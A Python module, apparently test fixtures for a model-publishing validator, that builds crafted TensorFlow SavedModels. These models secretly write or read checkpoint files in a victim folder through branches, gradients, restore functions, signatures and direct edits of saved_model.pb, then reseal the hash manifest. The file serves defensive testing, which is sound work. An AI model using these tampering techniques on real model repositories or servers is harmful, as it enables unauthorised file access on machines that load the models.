"""Crafted versions: SavedModels that touch files where a version must not, with right hashes.

Each attack writes a version into a folder. The version would write `new` into the victim's folder,
or read the checkpoint `part` there. Some use TensorFlow's own means; an edit
changes the graph of a harmless version.
"""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any, TypeAlias

import tensorflow as tf
from tensorflow.core.protobuf.saved_model_pb2 import SavedModel

from tfgen.publishing import versions

# Takes the folder of the version, and that of the victim.
Attack: TypeAlias = Callable[[Path, Path], None]

SEED = [tf.TensorSpec([None], tf.int32, name="seed")]


def seal(path: Path) -> None:
    """Writes a manifest with the hashes of all files."""
    manifest = {"files": versions.hash_files(path), "signatures": {}, "num_classes": 0}
    (path / versions.MANIFEST).write_text(json.dumps(manifest))


def save(module: tf.Module, path: Path, body: Callable[[tf.Tensor], Any], **options: Any) -> None:
    """Writes a version whose signature adds what `body` computes to the seeds."""

    def signature(seed: tf.Tensor) -> dict[str, tf.Tensor]:
        return {"images": tf.cast(seed, tf.float32) + tf.cast(body(seed), tf.float32)}

    function = tf.function(signature, input_signature=SEED, autograph=False)
    tf.saved_model.save(
        module, str(path), {"sample": function}, tf.saved_model.SaveOptions(**options)
    )
    seal(path)


def write_file(victim: Path, name: str = "new") -> tf.Tensor:
    """Writes a checkpoint; in a graph, whenever the tensor that it returns is computed."""
    operation = tf.raw_ops.SaveV2(
        prefix=str(victim / name),
        tensor_names=["x"],
        shape_and_slices=[""],
        tensors=[tf.constant([7.0, 8.0])],
    )
    with tf.control_dependencies([] if operation is None else [operation]):
        return tf.constant(0) + 0


def plain(path: Path) -> None:
    """Writes a harmless version with a variable."""
    module = tf.Module()
    module.variable = tf.Variable([0.0], name="variable")
    save(module, path, lambda seed: module.variable)


# --- attacks by TensorFlow's own means ----------------------------------------------------


def save_in_branch(path: Path, victim: Path) -> None:
    inner = tf.function(lambda: write_file(victim), autograph=False)
    save(tf.Module(), path, lambda seed: tf.cond(seed[0] >= 0, inner, lambda: tf.constant(1)))


def save_in_object(path: Path, victim: Path) -> None:
    """In a function of the object graph that is no signature."""
    module = tf.Module()
    module.helper = tf.function(lambda: write_file(victim), input_signature=[], autograph=False)
    save(module, path, lambda seed: 0)


def save_in_gradient(path: Path, victim: Path) -> None:
    @tf.custom_gradient
    def identity(x: tf.Tensor) -> Any:
        return tf.identity(x), lambda upstream: upstream + tf.cast(write_file(victim), tf.float32)

    module = tf.Module()
    module.function = tf.function(
        identity, input_signature=[tf.TensorSpec([], tf.float32)], autograph=False
    )
    save(module, path, lambda seed: 0, experimental_custom_gradients=True)


def restore_in_signature(path: Path, victim: Path) -> None:
    """Returns a tensor of a checkpoint of somebody else."""
    prefix = str(victim / "part")
    save(
        tf.Module(),
        path,
        lambda seed: tf.raw_ops.RestoreV2(
            prefix=prefix, tensor_names=["x"], shape_and_slices=[""], dtypes=[tf.float32]
        )[0],
    )


# --- edits of a harmless version ------------------------------------------------------------


def node(meta: Any, name: str) -> Any:
    """A node of the graph, by the name of one of its tensors."""
    return next(n for n in meta.graph_def.node if n.name == name.partition(":")[0])


def function(meta: Any, part: str) -> Any:
    """The only function with that part in its name."""
    (match,) = (f for f in meta.graph_def.library.function if part in f.signature.name)
    return match


def save_node(meta: Any) -> Any:
    return node(meta, meta.saver_def.save_tensor_name)


def save_name(meta: Any) -> str:
    return function(meta, "traced_save").signature.name


def add_prefix(nodes: Any, victim: Path) -> str:
    """Adds a constant with the path of a file to a function; returns the tensor's name."""
    constant = nodes.add(name="evil_prefix", op="Const")
    constant.attr["dtype"].type = tf.string.as_datatype_enum
    text = str(victim / "part")
    constant.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(text, tf.string, []))
    return "evil_prefix:output:0"


def add_call(meta: Any) -> Any:
    """Adds a call of the function that saves to the signature's function."""
    nodes = function(meta, "signature_wrapper").node_def
    call = nodes.add()
    call.CopyFrom(save_node(meta))
    call.name, call.input[0] = "evil", add_prefix(nodes, Path("/tmp/evil"))
    return call


def save_in_restoring(meta: Any, victim: Path) -> None:
    """Loading by a server runs the function that restores."""
    restoring = function(meta, "traced_restore")
    restoring.node_def.add(name="evil", op="SaveV2", input=[add_prefix(restoring.node_def, victim)])
    restoring.control_ret["evil"] = "evil"
    restoring.signature.control_output.append("evil")


def call_saving(meta: Any, victim: Path) -> None:
    add_call(meta)


def run_saving_by_signature(meta: Any, victim: Path) -> None:
    """A server runs the outputs of a signature in the graph, with inputs that a client sends."""
    signature = meta.signature_def["sample"]
    signature.inputs["path"].name = meta.saver_def.filename_tensor_name
    signature.outputs["path"].name = meta.saver_def.save_tensor_name


def run_saving_by_initialization(meta: Any, victim: Path) -> None:
    meta.collection_def["saved_model_main_op"].node_list.value[:] = [save_node(meta).name]


def run_saving_by_restoring(meta: Any, victim: Path) -> None:
    node(meta, meta.saver_def.restore_op_name).input.append(f"^{save_node(meta).name}")


def swap_saving_and_restoring(meta: Any, victim: Path) -> None:
    save = save_node(meta).name
    meta.saver_def.save_tensor_name = f"{meta.saver_def.restore_op_name}:0"
    meta.saver_def.restore_op_name = save


def offer_saving_as_function(meta: Any, victim: Path) -> None:
    objects = meta.object_graph_def
    objects.nodes.add().bare_concrete_function.concrete_function_name = save_name(meta)
    objects.nodes[0].children.add(node_id=len(objects.nodes) - 1, local_name="evil")


def make_saving_a_gradient(meta: Any, victim: Path) -> None:
    gradient = meta.graph_def.library.registered_gradients.add()
    gradient.registered_op_type = "CustomGradient-1"
    gradient.gradient_func = save_name(meta)


def make_saving_an_implementation(meta: Any, victim: Path) -> None:
    """TensorFlow may call a function in place of another one of the same interface."""
    for part in ("traced_save", "signature_wrapper"):
        function(meta, part).attr["api_implements"].s = b"interface"


def restoring_of_another_file(meta: Any, victim: Path) -> None:
    nodes = function(meta, "traced_restore").node_def
    next(node for node in nodes if node.op == "RestoreV2").input[0] = add_prefix(nodes, victim)


def two_functions_of_one_name(meta: Any, victim: Path) -> None:
    library = meta.graph_def.library.function
    library.add().CopyFrom(function(meta, "signature_wrapper"))


def composite_signature(meta: Any, victim: Path) -> None:
    output = meta.signature_def["sample"].outputs["more"]
    output.coo_sparse.values_tensor_name = meta.saver_def.save_tensor_name


def rewrite(path: Path, change: Callable[[Any], None]) -> None:
    """Writes a harmless version and changes what its saved_model.pb holds."""
    plain(path)
    file = path / "saved_model.pb"
    model = SavedModel.FromString(file.read_bytes())
    change(model)
    file.write_bytes(model.SerializeToString())
    seal(path)


def edited(change: Callable[[Any, Path], None]) -> Attack:
    return lambda path, victim: rewrite(path, lambda model: change(model.meta_graphs[0], victim))


def second_graph(path: Path, victim: Path) -> None:
    rewrite(path, lambda model: model.meta_graphs.add().CopyFrom(model.meta_graphs[0]))


def other_form(path: Path, victim: Path) -> None:
    """A second file with a graph, in text."""
    plain(path)
    model = SavedModel.FromString((path / "saved_model.pb").read_bytes())
    (path / "saved_model.pbtxt").write_text(str(model))
    seal(path)


EDITS = (
    save_in_restoring,
    call_saving,
    run_saving_by_signature,
    run_saving_by_initialization,
    run_saving_by_restoring,
    swap_saving_and_restoring,
    offer_saving_as_function,
    make_saving_a_gradient,
    make_saving_an_implementation,
    restoring_of_another_file,
    two_functions_of_one_name,
    composite_signature,
)
CRAFTED = (save_in_branch, save_in_object, save_in_gradient, restore_in_signature)
ATTACKS: dict[str, Attack] = {
    **{craft.__name__: craft for craft in (*CRAFTED, second_graph, other_form)},
    **{change.__name__: edited(change) for change in EDITS},
}
